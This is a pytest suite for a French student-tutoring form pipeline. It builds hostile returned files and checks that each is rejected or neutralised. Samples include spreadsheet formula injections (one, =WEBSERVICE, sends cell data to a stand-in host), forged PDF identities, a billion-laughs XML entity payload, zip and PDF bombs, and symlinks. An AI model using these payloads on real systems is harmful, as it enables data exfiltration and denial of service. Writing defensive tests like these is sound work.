"""Returned files as a hostile or careless tutor would send them: each one ends as one line of
the collect table, with its reason; the batch completes; nothing becomes a formula; no forged
identity writes another student's answers.

Every attack is a file built here. One collect runs over all of them (module fixture); the
tests read its table, its reports and the workbook it wrote.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import NameObject, TextStringObject

from pipeline.forms import guard, keys, layout, spec
from pipeline.workbook.validate import check
from tests.helpers import INPUTS, run
from tests.hostile_files import docx_bomb, nested_json, pdf_declaring_objects, pdf_with_objects, sparse_pdf

PERIODE = 5
A, A2 = "22004512", "22004587"  # both followed by Gaëlle L'Hôte
B = "22001843"  # followed by Baptiste Ferrand
FORMULAS = {"activites": '=WEBSERVICE("http://x.example/"&B2)', "autres_actions": "+1+1", "apports": "-2+3",
            "attentes": "@SUM(A1:A2)"}
FORMULAS_2 = {"activites": "\t=1+1", "autres_actions": "\r=2+2"}
CONTROLS = "Bonjour\x07 cloche\x0b verticale\x1b[31m échappement\x00 nul\ufffe fin"
LONG = "a" * 40_000


def _ident(numero: str) -> Any:
    return spec.Identity(spec.BILAN, numero, PERIODE, "", "")


def _name(numero: str, key: str) -> str:
    return spec.field_name(_ident(numero), key)


def _fill(src: Path, dst: Path, numero: str, values: dict[str, str]) -> Path:
    writer = PdfWriter(clone_from=PdfReader(src))
    for page in writer.pages:
        writer.update_page_form_field_values(page, {_name(numero, k): v for k, v in values.items()},
                                             auto_regenerate=False)
    writer.write(dst)
    return dst


def _forge(src: Path, dst: Path, numero: str, change: dict[str, Any], values: dict[str, str]) -> Path:
    """`src` (a form of student A) made to look like `numero`'s: field names and identity rewritten."""
    identity = json.loads(str(PdfReader(src).metadata["/CoparFormulaire"]))
    writer = PdfWriter(clone_from=PdfReader(src))
    for page in writer.pages:
        for annot in page["/Annots"]:
            widget = annot.get_object()
            widget[NameObject("/T")] = TextStringObject(str(widget["/T"]).replace(identity["numero"], numero))
    identity.update(numero=numero, **change)
    identity = {k: v for k, v in identity.items() if v is not None}
    writer.add_metadata({"/CoparFormulaire": json.dumps(identity)})
    for page in writer.pages:
        writer.update_page_form_field_values(page, {_name(numero, k): v for k, v in values.items()},
                                             auto_regenerate=False)
    writer.write(dst)
    return dst


def _with_info(src: Path, dst: Path, identity_text: str) -> Path:
    writer = PdfWriter(clone_from=PdfReader(src))
    writer.add_metadata({"/CoparFormulaire": identity_text})
    writer.write(dst)
    return dst


def _edit_xlsx(src: Path, dst: Path, hidden: dict[str, Any], answers: dict[str, Any]) -> Path:
    wb = openpyxl.load_workbook(src)
    for ref, value in hidden.items():
        wb[spec.MARKER][ref] = value
    for ref, value in answers.items():
        wb["Formulaire"][ref] = value
    wb.save(dst)
    return dst


def _sheet_xml(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")}


def _formulas(parts: dict[str, bytes]) -> int:
    return sum(len(re.findall(rb"<(?:\w+:)?f[ >/]", xml)) for xml in parts.values())


@pytest.fixture(scope="module")
def collected(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    tmp = tmp_path_factory.mktemp("hostile")
    inputs = tmp / "inputs"
    inputs.mkdir()
    promo = inputs / "promotion.xlsx"
    shutil.copy(INPUTS / "promotion.xlsx", promo)
    out = tmp / "outputs"
    assert run("forms", promo, "-o", out, "--type", "bilan", "--periode", PERIODE)[0] == 0
    assert run("forms", promo, "-o", out, "--type", "bilan", "--periode", PERIODE, "--format", "xlsx")[0] == 0
    ds, _ = check(promo)
    assert ds is not None
    by_numero = {s.numero: s for s in ds.students}

    def form(numero: str, suffix: str = ".pdf") -> Path:
        if suffix == ".xlsx":
            folder = layout.recipient_folder(out, ds, spec.BILAN, by_numero[numero], PERIODE)
            return folder / f"{folder.name}.xlsx"
        return layout.form_path(out, ds, spec.BILAN, by_numero[numero], PERIODE, suffix)

    r = tmp / "retours"
    r.mkdir()
    _fill(form("22005071"), r / "formules.pdf", "22005071", FORMULAS)
    _fill(form("22002264"), r / "formules-tab-cr.pdf", "22002264", FORMULAS_2)
    _fill(form("22007719"), r / "=1+2-partiel.pdf", "22007719",
          {"date": "fin décembre", "activites": "Quatre paragraphes.\nDeuxième.", "apports": "Les apports."})
    _fill(form("22000417"), r / "@partiel.pdf", "22000417", {"date": "=NOW()", "attentes": "Des attentes."})
    _fill(form("22004033"), r / "trop-long.pdf", "22004033", {"activites": LONG, "autres_actions": "court"})
    _fill(form("22003398"), r / "controles.pdf", "22003398", {"activites": CONTROLS})
    _fill(form("22006120"), r / "\x1b[31mrouge\x07.pdf", "22006120", {"activites": "Nom avec ESC et BEL."})
    _fill(form("22005530"), r / "nom\ufffe.pdf", "22005530", {"activites": "Nom avec U+FFFE."})
    # forged identities: tutor A's form made to look like tutor B's student
    _forge(form(A), r / "forge-numero.pdf", B, {}, {"activites": "écrit par A sur B"})
    recipient_b = layout.recipients(ds, spec.BILAN)[B].folder
    _forge(form(A), r / "forge-destinataire.pdf", B, {"recipient": recipient_b}, {"activites": "écrit par A sur B"})
    _forge(form(A), r / "forge-type.pdf", A, {"type": "soutenance"}, {})
    _with_info(form("22008845"), r / "json-imbrique.pdf", nested_json(1500))
    _with_info(form("21009132"), r / "json-geant.pdf", nested_json(100_000))
    xlsx_a = form(A, ".xlsx")
    _edit_xlsx(xlsx_a, r / "type-invente.xlsx", {"A2": "soutenance", "A3": "soutenance"}, {"F2": "x", "F3": "y"})
    _edit_xlsx(xlsx_a, r / "periode-date.xlsx", {"C2": dt.datetime(2024, 3, 18)}, {"F2": "x"})
    # bombs and giants
    docx_bomb(r / "bombe.docx")
    sparse_pdf(r / "enorme.pdf", 1536 * 2**20)
    sparse_pdf(r / "creux.pdf", 40 * 2**20)
    pdf_declaring_objects(r / "objets-declares.pdf", 2_000_000_000)
    pdf_with_objects(r / "objets-nombreux.pdf", 150_000)
    # links are never followed, to a file or to a folder
    outside = tmp / "ailleurs"
    outside.mkdir()
    _fill(form("22008391"), outside / "vrai.pdf", "22008391", {"activites": "lu par un lien"})
    (r / "lien.pdf").symlink_to(outside / "vrai.pdf")
    (r / "dossier-lien").symlink_to(outside, target_is_directory=True)

    before = _sheet_xml(promo)
    code, stdout, stderr = run("collect", r, promo, "-o", out)
    lines = {}
    for line in stdout.splitlines():
        if line and not line.startswith(" ") and "  " in line:
            lines[line.split("  ")[0].strip()] = line
    return {"code": code, "out": stdout, "err": stderr, "lines": lines, "promo": promo, "before": before,
            "output": out, "ds": ds}


def _line(collected: dict[str, Any], name: str) -> str:
    return collected["lines"][name]


def _bilan(collected: dict[str, Any], numero: str) -> Any:
    """The student's period-5 row of Bilans intermédiaires as written, read with openpyxl (not `check`:
    until the surgical writer lands, a `=…` answer is a formula that check refuses)."""
    from types import SimpleNamespace

    from pipeline.workbook.schema import BILANS, normalize

    wb = openpyxl.load_workbook(collected["promo"])
    ws = next(wb[n] for n in wb.sheetnames if normalize(n) in BILANS.names())
    keys_of = {}
    for cell in ws[1]:
        column = next((c.key for c in BILANS.columns if normalize(cell.value) in c.names()), None)
        if column:
            keys_of[cell.column] = column
    for row in ws.iter_rows(min_row=2):
        values = {keys_of[c.column]: c.value for c in row if c.column in keys_of}
        if str(values.get("numero")) == numero and str(values.get("periode")) == str(PERIODE):
            date = values.get("date")
            values["date"] = date.date() if isinstance(date, dt.datetime) else date
            return SimpleNamespace(**{c.key: values.get(c.key) for c in BILANS.columns})
    return None


@pytest.mark.slow
def test_the_batch_completes_with_one_line_per_file(collected: dict[str, Any]) -> None:
    assert collected["code"] == 1, collected["out"] + collected["err"]  # rejections and answers to check; never 3
    assert "erreur inattendue" not in collected["out"] + collected["err"]
    assert "Traceback" not in collected["err"]
    assert "\x1b" not in collected["out"] and "\x07" not in collected["out"]
    assert len(collected["lines"]) == 23  # the header and 22 files


@pytest.mark.slow
def test_formula_prefixes_are_taken_as_text(collected: dict[str, Any]) -> None:
    assert " ajouté" in _line(collected, "formules.pdf")
    assert " ajouté" in _line(collected, "formules-tab-cr.pdf")
    r = _bilan(collected, "22005071")
    assert (r.activites, r.autres_actions, r.apports, r.attentes) == tuple(FORMULAS.values())
    r = _bilan(collected, "22002264")
    assert (r.activites, r.autres_actions) == ("=1+1", "=2+2")  # tab and line break trimmed as every answer is


@pytest.mark.slow
def test_no_formula_added_to_the_workbook(collected: dict[str, Any]) -> None:
    assert _formulas(_sheet_xml(collected["promo"])) <= _formulas(collected["before"])


@pytest.mark.slow
def test_partial_returns_merge_every_valid_answer(collected: dict[str, Any]) -> None:
    line = _line(collected, "=1+2-partiel.pdf")
    assert "à vérifier" in line and "2 ajouté, 1 à vérifier" in line
    assert "« Date du bilan » : date illisible" in collected["out"] and "(valeur « fin décembre »)" in collected["out"]
    r = _bilan(collected, "22007719")
    assert (r.date, r.activites, r.apports) == (None, "Quatre paragraphes.\nDeuxième.", "Les apports.")
    assert _bilan(collected, "22000417").attentes == "Des attentes."
    assert "« Attentes" not in _line(collected, "@partiel.pdf")


@pytest.mark.slow
def test_conflicts_xlsx_keeps_what_to_check_as_text(collected: dict[str, Any]) -> None:
    path = collected["output"] / "formulaires" / "conflits.xlsx"
    assert _formulas(_sheet_xml(path)) == 0
    rows = list(openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True))
    by_file = {row[0]: row for row in rows}
    assert by_file["=1+2-partiel.pdf"][6] == "fin décembre"
    assert by_file["=1+2-partiel.pdf"][7].startswith("à vérifier : date illisible")
    assert by_file["@partiel.pdf"][6] == "=NOW()"
    long_row = by_file["trop-long.pdf"]
    assert "32767" in long_row[7] and len(long_row[6]) == 32_767  # the cell holds what a cell can
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "=1+2-partiel.pdf" in sheet and "=NOW()" in sheet


@pytest.mark.slow
def test_an_answer_too_long_for_a_cell_is_refused_with_the_limit(collected: dict[str, Any]) -> None:
    line = _line(collected, "trop-long.pdf")
    assert "1 ajouté, 1 à vérifier" in line
    assert "réponse de 40000 caractères, plus que les 32767 qu'une cellule Excel peut contenir" in collected["out"]
    r = _bilan(collected, "22004033")
    assert (r.activites, r.autres_actions) == (None, "court")


@pytest.mark.slow
def test_control_characters_removed_with_a_warning(collected: dict[str, Any]) -> None:
    line = _line(collected, "controles.pdf")
    assert " ajouté" in line and "caractères retirés de la réponse « activites »" in line
    for code in ("U+0007", "U+000B", "U+001B", "U+0000", "U+FFFE"):
        assert code in line
    assert _bilan(collected, "22003398").activites == "Bonjour cloche verticale[31m échappement nul fin"


@pytest.mark.slow
def test_control_characters_in_file_names(collected: dict[str, Any]) -> None:
    line = _line(collected, "[31mrouge.pdf")
    assert " ajouté" in line and "caractères retirés du nom du fichier : U+001B" in line and "U+0007" in line
    assert " ajouté" in _line(collected, "nom.pdf")
    assert _bilan(collected, "22006120").activites == "Nom avec ESC et BEL."
    report = (collected["output"] / "formulaires" / "rapport-de-collecte.txt").read_text(encoding="utf-8")
    assert "[31mrouge.pdf" in report and "\x1b" not in report


@pytest.mark.slow
def test_forged_identities_are_rejected(collected: dict[str, Any]) -> None:
    for name in ("forge-numero.pdf", "forge-destinataire.pdf"):
        assert "rejeté — signature du formulaire invalide" in _line(collected, name)
    assert _bilan(collected, B) is None
    assert "type de formulaire inconnu : soutenance" in _line(collected, "forge-type.pdf")
    # the hidden identity edited to an invented type: the identity fingerprint of the row no longer matches
    assert "rejeté — classeur-formulaire modifié : ligne 2 : l'identité" in _line(collected, "type-invente.xlsx")
    def defenses(path: Path) -> list[Any]:
        wb = openpyxl.load_workbook(path)
        return list(wb[next(n for n in wb.sheetnames if n.startswith("Soutenances"))].values)

    assert defenses(collected["promo"]) == defenses(INPUTS / "promotion.xlsx")
    assert _bilan(collected, A) is None and _bilan(collected, A2) is None


@pytest.mark.slow
def test_nested_identity_json(collected: dict[str, Any]) -> None:
    assert "rejeté — identité du formulaire illisible" in _line(collected, "json-imbrique.pdf")
    assert "caractères (limite : 4096)" in _line(collected, "json-geant.pdf")


@pytest.mark.slow
def test_a_date_in_the_period_cell(collected: dict[str, Any]) -> None:
    assert "rejeté — classeur-formulaire modifié" in _line(collected, "periode-date.xlsx")
    assert "une date à la place de la période" in _line(collected, "periode-date.xlsx")


@pytest.mark.slow
def test_bombs_and_giants_refused_before_parsing(collected: dict[str, Any]) -> None:
    assert "occupe 2\u202f048 Mo une fois décompressée (limite : 32 Mo par partie)" in _line(collected, "bombe.docx")
    assert "fichier de 1\u202f536 Mo, plus que la limite de 50 Mo (option --retour-max-mo)" in _line(collected, "enorme.pdf")
    assert "rejeté — PDF endommagé" in _line(collected, "creux.pdf")
    assert "PDF déclarant 2000000000 objets (limite : 100000)" in _line(collected, "objets-declares.pdf")
    assert "PDF de plus de 100000 objets" in _line(collected, "objets-nombreux.pdf")


@pytest.mark.slow
def test_symlinks_are_not_followed(collected: dict[str, Any]) -> None:
    assert "rejeté — lien symbolique" in _line(collected, "lien.pdf")
    assert "rejeté — lien symbolique" in _line(collected, "dossier-lien")
    assert _bilan(collected, "22008391") is None


@pytest.mark.slow
def test_reports_are_written_before_the_workbook(tmp_path: Path) -> None:
    """An output folder that cannot be written: the workbook is left as it was."""
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    promo = inputs / "promotion.xlsx"
    shutil.copy(INPUTS / "promotion.xlsx", promo)
    out = tmp_path / "outputs"
    assert run("forms", promo, "-o", out, "--type", "bilan", "--periode", PERIODE, "--etudiant", A)[0] == 0
    returned = tmp_path / "retours"
    returned.mkdir()
    _fill(next((out / "formulaires").rglob("*.pdf")), returned / "a.pdf", A, {"activites": "x"})
    (out / "formulaires" / "rapport-de-collecte.txt").mkdir()  # the report cannot be written
    before = promo.read_bytes()
    code, stdout, stderr = run("collect", returned, promo, "-o", out)
    assert code == 1 and promo.read_bytes() == before
    assert "Impossible d'écrire le rapport de collecte" in stdout + stderr
    assert "Le classeur n'a pas été modifié." in stdout + stderr


@pytest.mark.slow
def test_unsigned_forms_are_accepted_with_a_warning_and_never_replace(tmp_path: Path) -> None:
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    promo = inputs / "promotion.xlsx"
    shutil.copy(INPUTS / "promotion.xlsx", promo)
    out = tmp_path / "outputs"
    assert run("forms", promo, "-o", out, "--type", "bilan", "--periode", "1", "--etudiant", A)[0] == 0
    form = next((out / "formulaires").rglob("*.pdf"))
    identity = json.loads(str(PdfReader(form).metadata["/CoparFormulaire"]))
    assert len(identity["mac"]) == 32 and identity["recipient"] == "tuteur-l-hote-gaelle"
    old = {k: v for k, v in identity.items() if k not in ("mac", "recipient")}
    returned = tmp_path / "retours"
    returned.mkdir()
    writer = PdfWriter(clone_from=PdfReader(form))
    writer.add_metadata({"/CoparFormulaire": json.dumps(old)})
    name = spec.field_name(spec.Identity(spec.BILAN, A, 1, "", ""), "activites")
    for page in writer.pages:
        writer.update_page_form_field_values(page, {name: "ancien formulaire"}, auto_regenerate=False)
    writer.write(returned / "ancien.pdf")
    code, stdout, _ = run("collect", returned, promo, "-o", out, "--remplacer")
    assert code == 1
    assert "conflit" in stdout and keys.UNSIGNED in stdout
    ds, _ = check(promo)
    assert ds is not None and ds.reviews_of(A)[1].activites != "ancien formulaire"


def test_the_key_stays_beside_the_workbook(tmp_path: Path) -> None:
    promo = tmp_path / "promo" / "promotion.xlsx"
    code, stdout, _ = run("init", promo)
    assert code == 0
    key = promo.parent / keys.KEY_FILE
    assert key.is_file() and (key.stat().st_mode & 0o077) == 0
    assert f"Clé de la promotion (signe les formulaires, à ne jamais envoyer) : {key}" in stdout
    assert ".copar-cle" in (Path(__file__).parents[1] / ".gitignore").read_text(encoding="utf-8")


def test_memory_cap_of_the_parsing_child() -> None:
    def hungry() -> int:
        return len(bytearray(3 * guard.PARSE_MEMORY))

    with pytest.raises(guard.Refused, match="plus de 512 Mo de mémoire"):
        guard.isolated(hungry)


@pytest.mark.slow
def test_time_cap_of_the_parsing_child() -> None:
    def endless() -> None:
        while True:
            pass

    with pytest.raises(guard.Refused, match="lecture interrompue après 1 s"):
        guard.isolated(endless, seconds=1)


def test_a_crashing_child_is_one_rejection() -> None:
    def crash() -> None:
        os.kill(os.getpid(), 9)

    with pytest.raises(guard.Refused, match="la lecture du fichier a échoué .signal 9."):
        guard.isolated(crash)


def test_xml_depth_and_entities() -> None:
    with pytest.raises(guard.Refused, match="plus de 200 niveaux"):
        guard.parse_xml(b"<a>" * 300 + b"</a>" * 300)
    with pytest.raises(guard.Refused, match="XML illisible ou interdit"):
        guard.parse_xml(b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>')
    assert guard.parse_xml(b"<a><b/></a>").tag == "a"


@pytest.mark.slow
def test_forms_never_overwrite_a_form_filled_in_place(tmp_path: Path) -> None:
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    promo = inputs / "promotion.xlsx"
    shutil.copy(INPUTS / "promotion.xlsx", promo)
    out = tmp_path / "outputs"
    args = ("forms", promo, "-o", out, "--type", "bilan", "--periode", "1")
    assert run(*args, "--etudiant", A)[0] == 0
    form = next((out / "formulaires").rglob("*.pdf"))
    assert run(*args, "--etudiant", A)[0] == 0  # as copar wrote it: replaced
    # opened and saved again without a change (another hash, the same answers): replaced
    PdfWriter(clone_from=PdfReader(form)).write(form)
    assert run(*args, "--etudiant", A)[0] == 0
    # filled in place: refused, the file named, nothing written
    writer = PdfWriter(clone_from=PdfReader(form))
    names = {spec.field_name(spec.Identity(spec.BILAN, A, 1, "", ""), k): v
             for k, v in {"attentes": "tapé dans le formulaire", "date": "12/12/2023"}.items()}
    for page in writer.pages:
        writer.update_page_form_field_values(page, names, auto_regenerate=False)
    writer.write(form)
    filled = form.read_bytes()
    code, stdout, stderr = run(*args, "--etudiant", A)
    assert code == 1 and form.read_bytes() == filled
    message = stdout + stderr
    assert "1 formulaire déjà rempli sur place" in message and str(form) in message
    assert "(n° " not in message  # one form: its N° is in the file name
    assert ("réponses absentes du classeur : « Date du bilan », « Attentes ou propositions pour les périod »"
            in message), message
    assert "relancez avec --force" in message
    assert run(*args, "--etudiant", A, "--force")[0] == 0
    assert form.read_bytes() != filled


@pytest.mark.slow
def test_forms_never_overwrite_a_workbook_form_filled_in_place(tmp_path: Path) -> None:
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    promo = inputs / "promotion.xlsx"
    shutil.copy(INPUTS / "promotion.xlsx", promo)
    out = tmp_path / "outputs"
    args = ("forms", promo, "-o", out, "--type", "bilan", "--periode", "1", "--format", "xlsx")
    assert run(*args)[0] == 0
    xlsx = out / "formulaires" / "bilan-periode-1" / "tuteur-l-hote-gaelle" / "tuteur-l-hote-gaelle.xlsx"
    _edit_xlsx(xlsx, xlsx, {}, {"I3": "tapé dans Excel"})
    code, stdout, stderr = run(*args)
    assert code == 1 and "(n° 22004587)" in stdout + stderr
    assert openpyxl.load_workbook(xlsx)["Formulaire"]["I3"].value == "tapé dans Excel"


def test_suivi_and_workbook_forms_keep_text_as_text(tmp_path: Path) -> None:
    """A name or answer that starts like a formula is a string cell in suivi.xlsx and in the forms."""
    from dataclasses import replace

    from pipeline.forms.content import build_forms
    from pipeline.forms.sheet import workbook_bytes
    from pipeline.tracking.export import write_xlsx
    from pipeline.tracking.status import follow_up

    ds, _ = check(INPUTS / "promotion.xlsx")
    assert ds is not None
    states = follow_up(ds, {}, dt.date(2024, 3, 1))
    odd = replace(states[0].student, nom="=HYPERLINK(\"http://x.example\")", prenom="+33\x07")
    states[0] = replace(states[0], student=odd)
    target = write_xlsx(states, dt.date(2024, 3, 1), tmp_path / "suivi.xlsx")
    assert _formulas(_sheet_xml(target)) == 0
    row = next(openpyxl.load_workbook(target)["Suivi"].iter_rows(min_row=2, max_row=2))
    assert (row[1].value, row[2].value) == ('=HYPERLINK("http://x.example")', "+33")
    assert row[1].quotePrefix and row[2].quotePrefix

    forms = build_forms(ds, spec.BILAN, PERIODE)[:2]
    forms[0] = replace(forms[0], values={"activites": "=1+1", "attentes": "@SUM(A1)", "apports": "-2"})
    path = tmp_path / "form.xlsx"
    path.write_bytes(workbook_bytes(forms))
    assert _formulas(_sheet_xml(path)) == 0
    values = [c.value for c in next(openpyxl.load_workbook(path)["Formulaire"].iter_rows(min_row=2, max_row=2))]
    assert "=1+1" in values and "@SUM(A1)" in values and "-2" in values


def test_an_xlsx_declaring_entities_is_refused(tmp_path: Path) -> None:
    """openpyxl parses the sheets itself: a DTD anywhere in an Office file refuses it first."""
    source = tmp_path / "form.xlsx"
    wb = openpyxl.Workbook()
    wb.active["A1"] = "x"
    wb.save(source)
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
              b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol2;</t></si></sst>')
    bomb = tmp_path / "entites.xlsx"
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(bomb, "w") as zout:
        for item in zin.infolist():
            zout.writestr(item, zin.read(item.filename))
        zout.writestr("xl/sharedStrings.xml", laughs)
    ds, _ = check(INPUTS / "promotion.xlsx")
    assert ds is not None
    from pipeline.forms.read import read_file

    with pytest.raises(guard.Refused, match="« xl/sharedStrings.xml » déclare une DTD ou des entités XML"):
        read_file(bomb, ds)
